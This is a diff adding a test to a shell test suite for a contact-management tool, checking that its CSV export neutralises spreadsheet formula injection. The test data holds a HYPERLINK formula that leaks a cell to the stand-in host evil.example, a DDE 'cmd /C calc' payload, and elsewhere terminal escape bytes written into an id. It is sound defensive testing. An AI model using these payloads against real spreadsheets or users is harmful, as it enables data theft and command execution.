@@ -130,6 +130,22 @@ expect_inert "$T/out"
 expect_stdout 'Approved request 1: contact K\\1 is erased.'
 expect_exit 0 audit --verify
 
+# --- the mailing list in a spreadsheet: formula cells get a leading ', numbers and phones stay
+gdpr contact add F-1 'name==HYPERLINK("http://evil.example/?"&A1,"Klick")' 'note=@SUM(1+1)' 'phone=+43 1 234 56 78' \
+  'minus=-2+3+cmd|'"'"'/C calc'"'"'!A0' 'debt=-5' 'dash=- note' > /dev/null
+gdpr contact list --format csv > "$T/list.csv"
+python3 - "$T/list.csv" <<'PY' || fail "formula cells in the CSV: $(cat "$T/list.csv")"
+import csv, sys
+rows = list(csv.DictReader(open(sys.argv[1], newline="")))
+row = next(r for r in rows if r["id"] == "F-1")
+expected = {"name": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")", "note": "'@SUM(1+1)",
+            "phone": "+43 1 234 56 78", "minus": "-2+3+cmd|'/C calc'!A0", "debt": "-5", "dash": "- note"}
+bad = {k: row.get(k) for k, v in expected.items() if row.get(k) != v}
+if bad: print(bad, file=sys.stderr); sys.exit(1)
+PY
+gdpr contact show F-1 --format json > "$T/out"
+jq -e '.properties.name | startswith("=HYPERLINK")' "$T/out" > /dev/null || fail "the stored value was changed: $(cat "$T/out")"
+
 # --- a database from before the id rule: a contact id with controls is shown escaped everywhere
 gdpr contact add legacy-1 name=Old > /dev/null
 sqlite3 "$GDPR_DB" "UPDATE contacts SET id = 'legacy-' || char(27) || '[2J' || char(8238) || char(155) WHERE id = 'legacy-1'"
